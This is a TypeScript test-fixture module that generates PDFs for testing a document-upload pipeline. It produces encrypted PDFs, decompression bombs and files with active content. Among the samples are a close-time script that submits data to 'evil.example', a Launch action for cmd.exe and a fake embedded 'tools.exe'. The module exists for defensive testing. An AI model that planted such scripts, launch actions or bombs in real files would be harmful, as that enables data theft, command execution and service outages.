// PDFs made for tests, byte by byte or with pdf-lib: valid documents, broken ones, password-protected
// ones (AES-256, the standard security handler's revision 6), decompression bombs, and documents
// carrying active content (scripts, launch actions, embedded files, rich media, XFA).
import { createCipheriv, createHash, randomBytes } from 'node:crypto';
import { createDeflate, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import type { PDFDict, PDFObject, PDFRef } from 'pdf-lib';

/** A PDF of `pages` A4 pages, each saying which page it is (pdf-lib's output: compressed object streams). */
export async function textPdf(pages: number, linesPerPage = 1): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let number = 1; number <= pages; number++) {
    const page = document.addPage([595, 842]);
    for (let line = 0; line < linesPerPage; line++) {
      const text = line === 0 ? `Page ${number} of the CV` : `Line ${line}: ten years of TypeScript and PostgreSQL`;
      page.drawText(text, { x: 50, y: 780 - line * 14, size: 11, font });
    }
  }
  return Buffer.from(await document.save());
}

/** One object's body: a dictionary or other text, or a stream (its dictionary gets the /Length). */
type PdfObject = string | { readonly dict: string; readonly data: Buffer };

/** A PDF of these objects (numbered from 1, the first one the catalog) with a correct xref table. */
export function rawPdf(objects: readonly PdfObject[], trailer = ''): Buffer {
  const parts = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    const body =
      typeof object === 'string'
        ? Buffer.from(object, 'latin1')
        : Buffer.concat([
            Buffer.from(`<< ${object.dict} /Length ${object.data.length} >>\nstream\n`, 'latin1'),
            object.data,
            Buffer.from('\nendstream', 'latin1'),
          ]);
    const chunk = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
    offsets.push(offset);
    parts.push(chunk);
    offset += chunk.length;
  });
  const xref = [
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`,
    ...offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`),
  ].join('');
  const end = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${offset}\n%%EOF\n`;
  parts.push(Buffer.from(xref + end, 'latin1'));
  return Buffer.concat(parts);
}

/** Objects 1–4 of a one-page document whose content is object 5 (catalog, pages, font, page). */
const ONE_PAGE = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
] as const;

/** A page content stream writing `text`. */
const contentOf = (text: string) => Buffer.from(`BT /F1 12 Tf 72 720 Td (${text}) Tj ET`, 'latin1');

/**
 * A one-page PDF whose content stream is `decodedBytes` of zeros, deflated (twice: about 1 KB for
 * 200 MiB): a small upload that decodes to something huge. Zeros are whitespace to a content stream,
 * so the page is valid; only its size is the problem.
 */
export function bombPdf(decodedBytes: number): Buffer {
  const data = deflateSync(deflateSync(Buffer.alloc(decodedBytes), { level: 9 }), { level: 9 });
  return rawPdf([...ONE_PAGE, { dict: '/Filter [/FlateDecode /FlateDecode]', data }]);
}

/** A one-page PDF with `runs` separate pieces of text, each placed on its own (1.4 MB for 300 000). */
export function manyTextRunsPdf(runs: number): Buffer {
  const show = Array.from({ length: runs }, (_, i) => `1 0 0 1 ${i % 500} ${i % 800} Tm (w${i}) Tj`);
  const data = deflateSync(Buffer.from(`BT /F1 10 Tf\n${show.join('\n')}\nET`, 'latin1'));
  return rawPdf([...ONE_PAGE, { dict: '/Filter /FlateDecode', data }]);
}

/** Algorithm 2.B of ISO 32000-2 (7.6.4.3.4): the hash revision 6 derives keys and checks passwords with. */
function hash2B(password: Buffer, salt: Buffer, userKey: Buffer): Buffer {
  let k = createHash('sha256').update(password).update(salt).update(userKey).digest();
  for (let round = 0; ; round++) {
    const k1 = Buffer.concat(Array.from({ length: 64 }, () => Buffer.concat([password, k, userKey])));
    const cipher = createCipheriv('aes-128-cbc', k.subarray(0, 16), k.subarray(16, 32)).setAutoPadding(false);
    const e = Buffer.concat([cipher.update(k1), cipher.final()]);
    const algorithm = ['sha256', 'sha384', 'sha512'][e.subarray(0, 16).reduce((sum, byte) => sum + byte, 0) % 3]!;
    k = createHash(algorithm).update(e).digest();
    if (round >= 63 && e[e.length - 1]! <= round - 31) return k.subarray(0, 32);
  }
}

const aes256 = (key: Buffer, iv: Buffer | null, data: Buffer, mode: 'cbc' | 'ecb', padding: boolean) => {
  const cipher = createCipheriv(`aes-256-${mode}`, key, iv).setAutoPadding(padding);
  return Buffer.concat([cipher.update(data), cipher.final()]);
};

/**
 * A one-page PDF saying `text`, encrypted with AES-256 (revision 6, what current tools write). With a
 * user password it opens only with a password; with an empty one (an owner password only: "you may
 * read but not edit") every reader opens it.
 */
export function encryptedPdf(text: string, passwords: { user: string; owner: string }): Buffer {
  const fileKey = randomBytes(32);
  const user = Buffer.from(passwords.user, 'utf8');
  const owner = Buffer.from(passwords.owner, 'utf8');
  const [userCheckSalt, userKeySalt, ownerCheckSalt, ownerKeySalt] = [8, 8, 8, 8].map((n) => randomBytes(n));
  const u = Buffer.concat([hash2B(user, userCheckSalt!, Buffer.alloc(0)), userCheckSalt!, userKeySalt!]);
  const ue = aes256(hash2B(user, userKeySalt!, Buffer.alloc(0)), Buffer.alloc(16), fileKey, 'cbc', false);
  const o = Buffer.concat([hash2B(owner, ownerCheckSalt!, u), ownerCheckSalt!, ownerKeySalt!]);
  const oe = aes256(hash2B(owner, ownerKeySalt!, u), Buffer.alloc(16), fileKey, 'cbc', false);
  const permissions = -4; // everything allowed: the lock is the password
  const perms = Buffer.concat([
    Buffer.alloc(4),
    Buffer.from([0xff, 0xff, 0xff, 0xff]),
    Buffer.from('Tadb'),
    randomBytes(4),
  ]);
  perms.writeInt32LE(permissions, 0);
  const hex = (bytes: Buffer) => `<${bytes.toString('hex')}>`;
  const iv = randomBytes(16);
  const content = Buffer.concat([iv, aes256(fileKey, iv, contentOf(text), 'cbc', true)]);
  return rawPdf(
    [
      ...ONE_PAGE,
      { dict: '', data: content },
      [
        '<< /Filter /Standard /V 5 /R 6 /Length 256',
        '/CF << /StdCF << /Type /CryptFilter /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> /StmF /StdCF /StrF /StdCF',
        `/O ${hex(o)} /U ${hex(u)} /OE ${hex(oe)} /UE ${hex(ue)} /P ${permissions}`,
        `/Perms ${hex(aes256(fileKey, null, perms, 'ecb', false))} >>`,
      ].join('\n'),
    ],
    `/Encrypt 6 0 R /ID [${hex(randomBytes(16))} ${hex(randomBytes(16))}] `,
  );
}

/**
 * The active content `activePdf` puts into a document, each where a reader finds it: a script run
 * on opening (`/OpenAction`), a document script (`/Names /JavaScript`), a script on closing (the
 * catalog's `/AA`), on showing a page (the page's `/AA`), behind a link, in a form field, behind a
 * bookmark, chained behind a harmless action (`/Next`); a program launched on opening; an embedded
 * file; rich media; an XFA form.
 */
export const ACTIVE_CONTENT = [
  'openActionScript',
  'documentScript',
  'closeScript',
  'pageScript',
  'linkScript',
  'fieldScript',
  'bookmarkScript',
  'chainedScript',
  'launch',
  'embeddedFile',
  'richMedia',
  'xfa',
] as const;
export type ActiveContentKind = (typeof ACTIVE_CONTENT)[number];

/**
 * A one-page CV made with pdf-lib carrying one kind of active content (`ACTIVE_CONTENT`), or none
 * but a web link and a bookmark to its page (`'links'`: what word processors write). pdf-lib saves
 * the objects in compressed object streams, so the names of the active content are not in the
 * file's bytes.
 */
export async function activePdf(kind: ActiveContentKind | 'links'): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  const page = document.addPage([595, 842]);
  page.drawText('Curriculum vitae of Ada Lovelace', { x: 50, y: 780, size: 11, font });
  const { context, catalog } = document;
  const script = (code: string) => context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });
  const annotate = (annotation: PDFDict) => {
    page.node.set(PDFName.of('Annots'), context.obj([context.register(annotation)]));
  };
  const outline = (action: PDFObject) => {
    const outlines: PDFRef = context.nextRef();
    const item: PDFRef = context.nextRef();
    context.assign(item, context.obj({ Title: PDFString.of('Skills'), Parent: outlines, A: action }));
    context.assign(outlines, context.obj({ Type: 'Outlines', First: item, Last: item, Count: 1 }));
    catalog.set(PDFName.of('Outlines'), outlines);
  };
  const rect = [50, 700, 250, 720];
  switch (kind) {
    case 'openActionScript':
      catalog.set(PDFName.of('OpenAction'), context.register(script('app.alert("Hello")')));
      break;
    case 'documentScript':
      catalog.set(
        PDFName.of('Names'),
        context.obj({
          JavaScript: context.obj({ Names: [PDFString.of('init'), context.register(script('this.print()'))] }),
        }),
      );
      break;
    case 'closeScript':
      catalog.set(PDFName.of('AA'), context.obj({ WC: script('this.submitForm("https://evil.example/")') }));
      break;
    case 'pageScript':
      page.node.set(PDFName.of('AA'), context.obj({ O: script('app.beep(0)') }));
      break;
    case 'linkScript':
      annotate(
        context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, Border: [0, 0, 0], A: script('app.alert(1)') }),
      );
      break;
    case 'fieldScript': {
      const field = document.getForm().createTextField('rate');
      field.addToPage(page, { x: 50, y: 650, width: 200, height: 20, font });
      field.acroField.dict.set(
        PDFName.of('AA'),
        context.obj({ K: script('AFNumber_Keystroke(2, 0, 0, 0, "", true)') }),
      );
      break;
    }
    case 'bookmarkScript':
      outline(script('app.alert("Skills")'));
      break;
    case 'chainedScript':
      catalog.set(
        PDFName.of('OpenAction'),
        context.obj({ S: 'GoTo', D: [page.ref, 'Fit'], Next: context.register(script('app.alert(2)')) }),
      );
      break;
    case 'launch':
      catalog.set(
        PDFName.of('OpenAction'),
        context.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: context.obj({ F: PDFString.of('cmd.exe') }) }),
      );
      break;
    case 'embeddedFile':
      await document.attach(Buffer.from('MZ not really a program'), 'tools.exe', {
        mimeType: 'application/octet-stream',
        description: 'Tools',
      });
      break;
    case 'richMedia':
      annotate(
        context.obj({
          Type: 'Annot',
          Subtype: 'RichMedia',
          Rect: rect,
          RichMediaContent: context.obj({ Assets: context.obj({ Names: [] }), Configurations: [] }),
        }),
      );
      break;
    case 'xfa': {
      const xfa = context.register(context.stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>'));
      catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: xfa }));
      break;
    }
    case 'links':
      annotate(
        context.obj({
          Type: 'Annot',
          Subtype: 'Link',
          Rect: rect,
          Border: [0, 0, 0],
          A: context.obj({ S: 'URI', URI: PDFString.of('https://ada.example/portfolio') }),
        }),
      );
      outline(context.obj({ S: 'GoTo', D: [page.ref, 'Fit'] }));
      break;
  }
  return Buffer.from(await document.save());
}

/**
 * A PDF of `pages` A4 pages made with pdf-lib, all showing one content stream (one line of text):
 * 10 000 pages are about 150 KB, made in a second.
 */
export async function manyPagesPdf(pages: number): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  const first = document.addPage([595, 842]);
  first.drawText('One page of many', { x: 50, y: 780, size: 11, font });
  const contents = first.node.get(PDFName.of('Contents'))!;
  const resources = first.node.get(PDFName.of('Resources'))!;
  for (let number = 2; number <= pages; number++) {
    const page = document.addPage([595, 842]);
    page.node.set(PDFName.of('Contents'), contents);
    page.node.set(PDFName.of('Resources'), resources);
  }
  return Buffer.from(await document.save());
}

/**
 * `decodedBytes` of zeros deflated three times: zlib deflates the zeros as a stream (never held
 * whole), then the result twice more — 2 GiB become about 3 KB, for `/Filter [/FlateDecode
 * /FlateDecode /FlateDecode]`.
 */
function zerosDeflatedThrice(decodedBytes: number): Promise<Buffer> {
  let deflated = DEFLATED_ZEROS.get(decodedBytes);
  if (!deflated) DEFLATED_ZEROS.set(decodedBytes, (deflated = deflateZerosThrice(decodedBytes)));
  return deflated;
}

/** Zeros deflated thrice by size: made once per test file (2 GiB take a second of CPU). */
const DEFLATED_ZEROS = new Map<number, Promise<Buffer>>();

async function deflateZerosThrice(decodedBytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 1 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  const zeros = Buffer.alloc(1024 * 1024);
  for (let written = 0; written < decodedBytes; written += zeros.length) {
    const chunk = zeros.subarray(0, Math.min(zeros.length, decodedBytes - written));
    if (!deflate.write(chunk)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await ended;
  return deflateSync(deflateSync(Buffer.concat(chunks), { level: 9 }), { level: 9 });
}

const THRICE = '/Filter [/FlateDecode /FlateDecode /FlateDecode]';

/** A one-page PDF whose content stream inflates to `decodedBytes` of zeros (through three filters). */
export async function deepBombPdf(decodedBytes: number): Promise<Buffer> {
  return rawPdf([...ONE_PAGE, { dict: THRICE, data: await zerosDeflatedThrice(decodedBytes) }]);
}

/**
 * A valid one-page PDF with one more object: an object stream (the container of compressed objects)
 * that inflates to `decodedBytes` of zeros. Nothing refers to it, so a reader following the
 * cross-reference table never opens it; a parser reading every object does.
 */
export async function objectStreamBombPdf(decodedBytes: number): Promise<Buffer> {
  const data = await zerosDeflatedThrice(decodedBytes);
  return rawPdf([
    ...ONE_PAGE,
    { dict: '', data: contentOf('Curriculum vitae') },
    { dict: `/Type /ObjStm /N 1 /First 4 ${THRICE}`, data },
  ]);
}
